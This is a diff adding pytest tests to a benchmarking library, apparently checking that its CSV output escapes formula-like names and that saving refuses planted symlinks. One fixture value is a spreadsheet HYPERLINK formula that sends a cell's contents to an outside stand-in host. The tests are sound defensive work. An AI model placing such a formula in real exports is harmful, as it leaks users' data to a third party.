@@ -93,3 +93,97 @@ def test_csv_round_trip(tmp_path):
     back = unescape_frame(pd.read_csv(tmp_path / "t.csv", index_col=0))
     pd.testing.assert_frame_equal(back, frame)
     assert escape_frame(frame)["'=score"].tolist()[:2] == [-0.5, 0.25]
+
+
+def _study(names=("lr", "rf", "nb"), datasets=("d1", "d2", "d3", "d4")):
+    rng = np.random.default_rng(0)
+    rows = [
+        {"dataset": d, "learner": m, "value": float(rng.uniform(0.1, 0.3))}
+        for d in datasets
+        for m in names
+    ]
+    return pd.DataFrame(rows)
+
+
+def test_saved_results_keep_formula_names_as_text(tmp_path):
+    """H: BenchmarkResult.save escapes formula-like names in its CSVs (a
+    spreadsheet shows text, not a live formula) and load reads the same names."""
+    from sklearn_bench import BenchmarkResult
+
+    names = ('=HYPERLINK("http://x/?"&A1,"click")', "+sum", "plain")
+    result = BenchmarkResult.from_frame(
+        _study(names),
+        dataset="dataset",
+        learner="learner",
+        value="value",
+        greater_is_better=False,
+    )
+    result.save(tmp_path / "res")
+    text = (tmp_path / "res" / "scores.csv").read_text()
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    back = BenchmarkResult.load(tmp_path / "res")
+    assert sorted(back.learners) == sorted(names)
+    pd.testing.assert_frame_equal(back.scores, result.scores, check_dtype=False)
+
+
+def test_save_refuses_a_symlinked_results_folder_member(tmp_path):
+    """H: a link planted inside the folder a result is saved into is refused and
+    nothing is written where it points."""
+    from sklearn_bench import BenchmarkResult
+
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (tmp_path / "res").mkdir()
+    os.symlink(victim / "scores.csv", tmp_path / "res" / "scores.csv")
+    result = BenchmarkResult.from_frame(
+        _study(),
+        dataset="dataset",
+        learner="learner",
+        value="value",
+        greater_is_better=False,
+    )
+    with pytest.raises(UnsafePathError):
+        result.save(tmp_path / "res")
+    assert list(victim.iterdir()) == []
+
+
+def test_leaderboard_csv_names_read_exactly(tmp_path, capsys):
+    """H: the leaderboard command reads learner and data-set names as written:
+    "NA", "null", "None", "nan", "N/A" stay five learners and data sets "01" and
+    "1" stay two; the CSV it writes escapes a formula-like learner name."""
+    from sklearn_bench.cli import main
+
+    learners = ("NA", "null", "None", "nan", "N/A", "=1+1")
+    frame = _study(learners, datasets=("01", "1", "2", "3", "4", "5"))
+    frame.to_csv(tmp_path / "lb.csv", index=False)
+    code = main(["leaderboard", str(tmp_path / "lb.csv")])
+    assert code == 0, capsys.readouterr()
+    board = pd.read_csv(
+        tmp_path / "lb-leaderboard.csv", index_col=0, dtype=str, keep_default_na=False
+    )
+    assert sorted(board.index) == sorted(["NA", "null", "None", "nan", "N/A", "'=1+1"])
+    assert "n_datasets" not in board.columns or set(board["n_datasets"]) == {"6"}
+
+
+def test_report_refuses_symlinked_figures_folder(tmp_path):
+    """H: write_report refuses an output folder whose figures/ is a link, and
+    writes nothing into the linked folder."""
+    pytest.importorskip("matplotlib")
+    from sklearn_bench import BenchmarkResult
+    from sklearn_bench.report import write_report
+
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    out = tmp_path / "out"
+    out.mkdir()
+    os.symlink(victim, out / "figures")
+    result = BenchmarkResult.from_frame(
+        _study(),
+        dataset="dataset",
+        learner="learner",
+        value="value",
+        greater_is_better=False,
+    )
+    with pytest.raises(UnsafePathError):
+        write_report(result, out)
+    assert list(victim.iterdir()) == []
